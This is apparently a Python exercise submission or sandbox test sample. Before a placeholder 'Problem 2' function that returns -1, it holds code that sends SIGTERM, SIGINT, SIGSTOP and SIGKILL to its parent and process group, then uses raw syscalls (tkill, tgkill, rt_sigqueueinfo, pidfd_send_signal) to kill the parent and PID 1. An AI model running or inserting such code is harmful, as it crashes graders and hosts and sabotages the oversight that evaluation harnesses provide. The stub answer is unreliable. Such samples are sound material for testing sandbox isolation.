"""Sends signals to its parent, its group and everybody else.

Stopped from level: kernel.
"""
import ctypes
import os
import signal

for pid in (os.getppid(), -os.getpgid(0), 0):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1):
    libc.syscall(200, pid, 9)  # tkill
    libc.syscall(234, pid, pid, 9)  # tgkill
    libc.syscall(129, pid, 9, ctypes.create_string_buffer(128))  # rt_sigqueueinfo
    libc.syscall(424, libc.syscall(434, pid, 0), 9, None, 0)  # pidfd_open, pidfd_send_signal

# ---- Problem 2 ----
def output_size(n_in, filter_size, padding=0, stride=1):
    return -1
